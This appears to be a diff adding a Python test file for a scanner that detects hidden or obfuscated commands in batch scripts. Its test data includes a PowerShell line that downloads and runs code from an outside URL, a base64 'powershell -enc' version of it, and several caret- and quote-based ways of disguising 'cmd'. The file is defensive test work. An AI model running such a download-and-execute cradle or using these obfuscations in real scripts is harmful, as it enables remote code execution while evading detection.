@@ -1,0 +1,48 @@
+"""What scripts hide is read, and their bytes are noticed; base64 in tests/agent/sources."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from agent.indicators import Content
+from agent.matching.byte_rules import ByteRules
+from agent.matching.hidden_commands import HiddenScan, hidden_in_script, readings
+from tests.evidence.packs import stated
+
+COMMAND = "iex (New-Object Net.WebClient).DownloadString('https://pandorasong.com/x')"
+
+
+def encoded(command: str = COMMAND) -> str:
+    return base64.b64encode(command.encode("utf-16-le")).decode()
+
+
+def content(text: str) -> Content:
+    return Content(id=text.lower(), value=text, **stated())
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le", "utf-16"])
+@pytest.mark.parametrize(
+    "line",
+    [f"powershell -enc {encoded()}", "c^m^d", 'cm"d', 'c"m"d', 'cm""d', "'cm'+'d'", '"cm"+"d"'],
+)
+def test_the_bytes_of_a_script_that_hides_something_are_noticed(line: str, encoding: str) -> None:
+    text = f"@echo off\r\n{line}\r\n"
+    hidden = hidden_in_script(text.encode(encoding))
+    assert [one.text.encode() for one in readings(text)[1:]] == hidden
+    scan = HiddenScan(ByteRules([content("cmd"), content("DownloadString")]))
+    assert len(scan.scan(text.encode(encoding))) == 1
+
+
+def test_what_stands_in_the_clear_hides_nothing() -> None:
+    for text in ("echo cmd", 'set x="cmd"', "a, 'b' + c", ""):
+        assert [one.text for one in readings(text)] == [text]
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.binary(max_size=300) | st.text(alphabet="ae^\"'+- `\n", max_size=80).map(str.encode))
+def test_any_script_ends_in_texts(data: bytes) -> None:
+    assert all(isinstance(text, bytes) for text in hidden_in_script(data))
